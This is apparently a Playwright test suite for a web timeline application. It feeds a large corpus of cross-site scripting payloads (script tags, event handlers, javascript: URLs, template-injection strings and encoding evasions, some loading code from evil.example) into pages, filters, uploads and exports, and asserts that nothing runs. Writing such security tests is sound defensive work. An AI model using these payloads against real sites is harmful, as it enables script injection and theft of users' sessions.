"""What others wrote runs nowhere: hostile words as texts, titles, names, addresses, ids and filters, on every page.

Each would call `pwn`, which is there to be called, open a dialog, or ask another host for something.
"""

from collections.abc import Callable
from contextlib import suppress
from typing import Any
from urllib.parse import quote, urlsplit

import pytest
from playwright.sync_api import Error

from timeline.dates import Day
from timeline.export import FORMATS
from timeline.records import Document, PublishedFrom, Source
from timeline.web import Settings
from timeline.web.settings import Access

Visits = Callable[..., Any]
Hosts = Callable[[str, str], str]

CORPUS = (
    "<script>pwn()</script>",
    "</script><script>pwn()</script>",
    "<script src=//evil.example/x.js></script>",
    '"><script>pwn()</script>',
    "'><img src=x onerror=pwn()>",
    "<img src=x onerror=pwn()>",
    "<IMG SRC=x OnErRoR=pwn()>",
    "<img/src=x/onerror=pwn()>",
    '" onmouseover="pwn()" autofocus onfocus="pwn()" x="',
    "' onfocus='pwn()' autofocus tabindex='1",
    "` onfocus=pwn() autofocus `",
    "<svg onload=pwn()>",
    "<svg><script>pwn()</script></svg>",
    "<svg><animate onbegin=pwn() attributeName=x dur=1s>",
    "<svg><style><img src=x onerror=pwn()></style></svg>",
    "<math><mtext></p><img src=x onerror=pwn()></math>",
    "<details open ontoggle=pwn()>",
    "<iframe srcdoc='<script>parent.pwn()</script>'></iframe>",
    "<iframe src=javascript:parent.pwn()></iframe>",
    "<object data=javascript:pwn()></object>",
    "<embed src=javascript:pwn()>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:pwn()'>",
    "<form action=javascript:pwn()><button autofocus>x</button></form>",
    "<input onfocus=pwn() autofocus>",
    "<video><source onerror=pwn()></video>",
    "<body onload=pwn()>",
    "<template><script>pwn()</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=pwn()>'></noscript>",
    "<textarea></textarea><img src=x onerror=pwn()>",
    "<title></title><img src=x onerror=pwn()>",
    "<style>@import '//evil.example/x.css';</style>",
    "<!--><img src=x onerror=pwn()>-->",
    "]]><script>pwn()</script>",
    "<?xml-stylesheet href='javascript:pwn()'?>",
    "<x xmlns='http://www.w3.org/1999/xhtml'><script>pwn()</script></x>",
    "{{ pwn() }}",
    "{% print(pwn()) %}",
    "${pwn()}",
    "#{pwn()}",
    "<%= pwn() %>",
    "javascript:pwn()",
    "&lt;script&gt;pwn()&lt;/script&gt;",
    "&#60;script&#62;pwn()&#60;/script&#62;",
    "\\u003cscript\\u003epwn()\\u003c/script\\u003e",
    "\u202e<script>pwn()</script>\u202c",
    "\ufeff<script>pwn()</script>",
    "＜script＞pwn()＜/script＞",  # noqa: RUF001 - these are not the brackets of HTML, until someone folds them
    "+ADw-script+AD4-pwn()+ADw-/script+AD4-",
)

ADDRESSES = (
    "javascript:pwn()",
    "JaVaScRiPt:pwn()",
    " javascript:pwn()",
    "java\tscript:pwn()",
    "javascript://example.org/%0Apwn()",
    "data:text/html,<script>opener.pwn()</script>",
    "vbscript:pwn()",
    'https://example.org/" onmouseover="pwn()',
    "https://example.org/'><script>pwn()</script>",
    "//evil.example/",
    "https://user:secret@example.org/<img src=x onerror=pwn()>",
)

SCHEMES = """all => all.map((one) => {
  const address = ["href", "action", "src"].map((name) => one.getAttribute(name)).find((value) => value !== null);
  return new URL(address, document.baseURI).protocol;
})"""
CANARY = "window.pwned = 0; window.pwn = () => { window.pwned += 1; };"


def articles() -> list[Document]:
    """Each hostile text as all that a document has, and each address as where it is from."""
    every = [(words, f"https://example.org/{at}") for at, words in enumerate(CORPUS)]
    every += [("of the harbour", address) for address in ADDRESSES]
    return [article(at, words, address) for at, (words, address) in enumerate(every)]


def article(at: int, words: str, address: str) -> Document:
    source = Source(f"{at} {words}", words, words, Day(2019, 12, 21), PublishedFrom.GIVEN, address, words)
    text = (
        f"Ada Lindqvist resigned {words} on {at % 28 + 1} December 2019. "
        f"Rosa {words} Feld closed the mill {at} on Friday. The captain, {words}, met Bo {words} in 2015."
    )
    return Document(source, "default", "en", text)


@pytest.fixture
def watched(visit: Visits) -> Any:
    """A visit in which whatever runs is heard of."""
    visited = visit()
    visited.page.add_init_script(CANARY)
    visited.page.route("**/favicon.ico", lambda route: route.fulfill(status=204))  # asked for beside what is no page
    visited.page.on("dialog", lambda dialog: (visited.complaints.append(dialog.message), dialog.dismiss()))
    return visited


def quiet(visited: Any, address: str) -> None:
    """Nothing has run, nothing was kept from running, and nobody else was asked for anything."""
    visited.page.evaluate("new Promise((done) => requestAnimationFrame(() => setTimeout(done)))")
    assert visited.page.evaluate("window.pwned") == 0
    assert [each for each in visited.complaints if "status of 4" not in each] == []
    assert visited.hosts <= {urlsplit(address).netloc}


def pages(address: str, page: Any) -> list[str]:
    """All pages of the server, and those of the first things in it."""
    events = page.request.get(f"{address}/events?limit=500").json()["data"]
    documents = page.request.get(f"{address}/documents?limit=500").json()["data"]
    things = [f"/events/{event['id']}" for event in events[:40]]
    things += [f"/documents/{quote(document['id'], safe='')}" for document in documents]
    frames = [f"/embed?event={event['id']}" for event in events[:5]]
    return ["/", "/?limit=500", "/?sort=importance", "/docs", "/upload", "/embed?limit=500", *frames, *things]


def test_nothing_runs_on_any_page(serve: Callable[..., str], watched: Any) -> None:
    address = serve(*articles())

    for path in pages(address, watched.page):
        watched.to(f"{address}{path}")
        watched.page.evaluate("document.querySelectorAll('details').forEach((each) => { each.open = true; })")
        quiet(watched, address)


def test_no_link_of_any_page_leads_to_a_script(serve: Callable[..., str], watched: Any) -> None:
    address = serve(*articles())

    for path in pages(address, watched.page):
        links = watched.to(f"{address}{path}").locator("a[href], form[action], [src]")
        schemes = links.evaluate_all(SCHEMES)
        assert set(schemes) <= {"http:", "https:"}


FILTERS = ("q", "from", "to", "actor", "document", "status", "modality", "sort", "cursor", "part", "unknown")


def test_nothing_runs_that_is_asked_for(serve: Callable[..., str], watched: Any) -> None:
    address = serve(*articles()[:3])

    for words in CORPUS:
        for names in (FILTERS, ("q", "actor", "document")):
            watched.page.goto(f"{address}/?" + "&".join(f"{name}={quote(words)}" for name in names))
            quiet(watched, address)


def test_nothing_runs_in_what_a_frame_or_an_upload_is_asked_for(serve: Callable[..., str], watched: Any) -> None:
    address = serve(*articles()[:3])

    for words in CORPUS:
        for path in ("/embed?lang=", "/embed?event=", "/embed?q=", "/upload?timeline="):
            watched.page.goto(f"{address}{path}{quote(words)}")
            quiet(watched, address)


def test_nothing_runs_in_what_is_added_by_hand(serve: Callable[..., str], watched: Any) -> None:
    address = serve(settings=Settings(Access.OPEN))

    for words in CORPUS[::5]:
        watched.to(f"{address}/upload")
        watched.page.get_by_label("The text").fill(f"Ada {words} resigned on 3 May 2020. {words}")
        watched.page.get_by_label("Its headline").fill(words)
        watched.page.get_by_role("button", name="Add").click()
        watched.page.locator("[data-state=kept], [data-state=refused]").first.wait_for()
        quiet(watched, address)


def test_nothing_runs_in_the_name_of_a_timeline(serve: Callable[..., str], watched: Any) -> None:
    address = serve(*articles()[:3])

    for words in CORPUS:
        watched.page.goto(f"{address}/timelines/{quote(words, safe='')}")
        quiet(watched, address)


def test_nothing_runs_in_what_is_exported(serve: Callable[..., str], watched: Any) -> None:
    address = serve(*articles())

    for name in FORMATS:
        answer = watched.page.request.get(f"{address}/events.{name}")
        assert answer.headers["x-content-type-options"] == "nosniff"
        assert "html" not in answer.headers["content-type"]
        with suppress(Error):  # what Chromium does not show, it would rather keep as a file
            watched.page.goto(f"{address}/events.{name}")
        quiet(watched, address)


def test_nothing_runs_on_the_page_of_others(serve: Callable[..., str], host: Hosts, watched: Any) -> None:
    address = serve(*articles())
    carrier = (
        '<!doctype html><html lang="en"><title>A page of others</title><body><h1>A page of others</h1>'
        f'<event-timeline src="{address}/events?limit=500"></event-timeline>'
        f'<script type="module" src="{address}/widget.js"></script></body></html>'
    )
    page = watched.to(host(carrier, address))
    page.locator("event-timeline ol[aria-busy=false]").wait_for(state="attached")

    assert page.locator("event-timeline li").count() > 10
    links = page.locator("event-timeline a[href]").evaluate_all("all => all.map(({ protocol }) => protocol)")
    assert set(links) <= {"http:", "https:"}
    assert page.evaluate("window.pwned") == 0
    assert watched.complaints == []
